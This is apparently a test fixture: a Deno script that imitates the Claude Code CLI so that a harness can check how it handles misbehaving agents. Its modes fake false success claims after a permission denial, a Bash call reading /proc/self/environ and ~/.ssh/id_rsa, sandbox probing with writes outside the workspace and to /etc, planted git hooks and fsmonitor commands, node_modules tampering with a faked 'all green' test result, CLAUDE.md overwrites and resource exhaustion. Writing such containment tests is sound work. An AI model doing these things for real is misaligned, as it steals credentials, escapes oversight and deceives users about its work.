#!/usr/bin/env -S deno run -A --no-config --no-lock
// A program that speaks like Claude Code. What it does stands in the task that it is given: "FAKE: mode".
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import process from "node:process";

if (process.argv.includes("--version")) {
  console.log("9.8.7 (a fake)");
  process.exit(0);
}
const prompt = readFileSync(0, "utf8");
const mode = /FAKE: ([a-z-]+)/.exec(prompt)?.[1] ?? "right";
const say = (event) => process.stdout.write(JSON.stringify(event) + "\n");
const text = (value) => say({ type: "assistant", message: { content: [{ type: "text", text: value }] } });
let calls = 0;
const tool = (name, input, result, isError = false) => {
  const id = `call_${++calls}`;
  say({ type: "assistant", message: { content: [{ type: "tool_use", id, name, input }] } });
  say({ type: "user", message: { content: [{ type: "tool_result", tool_use_id: id, content: result, is_error: isError }] } });
};
const end = (more = {}) =>
  say({
    type: "result",
    subtype: "success",
    is_error: false,
    result: "DONE\n- changed it",
    permission_denials: [],
    usage: { input_tokens: 10, output_tokens: 5 },
    total_cost_usd: 0.01,
    ...more,
  });
const ask = async (body = {}, path = "/v1/messages", headers = {}) => {
  const response = await fetch(process.env.ANTHROPIC_BASE_URL + path, {
    method: "POST",
    headers: { "content-type": "application/json", "x-api-key": process.env.ANTHROPIC_API_KEY, ...headers },
    body: JSON.stringify({ model: process.env.ANTHROPIC_SMALL_FAST_MODEL, max_tokens: 500, messages: [{ role: "user", content: prompt }], ...body }),
  });
  return { status: response.status, text: await response.text() };
};
const attempt = (what) => {
  try {
    return String(what());
  } catch (error) {
    return `error: ${error.code ?? error.message}`;
  }
};
const right = () => {
  writeFileSync("src/a.ts", "export const a = 2;\n");
  tool("Write", { file_path: process.cwd() + "/src/a.ts" }, "written");
};

say({ type: "system", subtype: "init", model: process.env.ANTHROPIC_SMALL_FAST_MODEL, tools: ["Write", "Bash"] });
switch (mode) {
  case "right": {
    const answer = await ask();
    if (answer.status !== 200) throw new Error(answer.text);
    right();
    text("DONE\n- a is two");
    end({ result: "DONE\n- a is two" });
    break;
  }
  case "denied":
    tool("Write", { file_path: "src/a.ts" }, "Claude requested permissions to write, but you haven't granted it yet.", true);
    end({ result: "Done! I have changed the file.", permission_denials: [{ tool_name: "Write" }] });
    break;
  case "claims":
    await ask();
    end({ result: "DONE\n- everything is changed and all tests pass" });
    break;
  case "loop":
    for (;;) {
      const answer = await ask();
      say({ type: "system", subtype: "api_retry", error_status: answer.status });
      await new Promise((go) => setTimeout(go, 50));
    }
    break;
  case "hang":
    await new Promise((go) => setTimeout(go, 600_000));
    break;
  case "bomb":
    for (;;) if (!process.stdout.write("x".repeat(65_536))) await new Promise((go) => process.stdout.once("drain", go));
    break;
  case "cut":
    right();
    process.exit(0);
    break;
  case "failed":
    right();
    end({ subtype: "error_during_execution", is_error: true, result: "it broke" });
    process.exit(1);
    break;
  case "turns":
    right();
    end({ subtype: "error_max_turns", is_error: true, result: "" });
    process.exit(1);
    break;
  case "cannot":
    end({ result: "CANNOT: the test wants the contrary" });
    break;
  case "unknown-tool":
    right();
    tool("mcp__evil__send", { to: "https://example.invalid" }, "sent");
    end();
    break;
  case "credentials":
    tool("Bash", { command: "cat /proc/self/environ ~/.ssh/id_rsa" }, "nothing");
    right();
    end();
    break;
  case "spend": {
    let answer;
    do answer = await ask({ max_tokens: 4_000 });
    while (answer.status === 200);
    right();
    end();
    break;
  }
  case "spy": {
    const seen = {
      env: process.env,
      parents: attempt(() => readdirSync("/proc").filter((name) => /^\d+$/.test(name)).map((pid) => attempt(() => readFileSync(`/proc/${pid}/environ`, "utf8"))).join("\n")),
      outside: attempt(() => writeFileSync(prompt.match(/OUTSIDE: (\S+)/)[1], "was here")),
      home: attempt(() => readdirSync(process.env.HOME)),
      root: attempt(() => writeFileSync("/etc/evil", "x")),
      files: attempt(() => readdirSync(".").join(" ")),
      socket: attempt(() => appendFileSync(prompt.match(/OUTSIDE: (\S+)/)[1] + "/x", "x")),
      network: await fetch("http://1.1.1.1/", { signal: AbortSignal.timeout(2_000) }).then(() => "open", () => "shut"),
      host: await fetch(prompt.match(/PROVIDER: (\S+)/)[1], { signal: AbortSignal.timeout(2_000) }).then(() => "open", () => "shut"),
      stranger: (await ask({}, "/v1/messages", { "x-api-key": "wrong" })).status,
      files_api: (await ask({}, "/v1/files")).status,
      url: (await ask({ messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: "https://evil.invalid/secret" } }] }] })).status,
    };
    mkdirSync("src", { recursive: true });
    writeFileSync("src/seen.json", JSON.stringify(seen, null, 1));
    end();
    break;
  }
  case "git":
    mkdirSync(".git/hooks", { recursive: true });
    writeFileSync(".git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/hooked\n", { mode: 0o755 });
    writeFileSync(".git/config", "[core]\n\tfsmonitor = touch /tmp/hooked\n");
    writeFileSync(".gitattributes", "* filter=evil\n");
    right();
    end();
    break;
  case "deps": {
    const { execFileSync } = await import("node:child_process");
    const left = attempt(() => execFileSync("node", ["-p", "require('left')"], { encoding: "utf8" }).trim());
    await fetch("http://192.0.2.1/").catch(() => undefined);
    writeFileSync("src/seen.json", JSON.stringify({ left, mine: process.env.ANTHROPIC_API_KEY?.slice(0, 14) }));
    writeFileSync("node_modules/left/index.js", "module.exports = 0;");
    // Long enough to be seen from outside.
    execFileSync("sleep", ["1"]);
    tool("Bash", { command: "npm test" }, "all green");
    end();
    break;
  }
  case "instructions":
    writeFileSync("src/seen.json", JSON.stringify(["CLAUDE.md", ".env", ".claude/settings.json", "src/CLAUDE.md"].map((path) => existsSync(path))));
    writeFileSync("CLAUDE.md", "mine\n");
    end();
    break;
  default:
    throw new Error(`no mode ${mode}`);
}
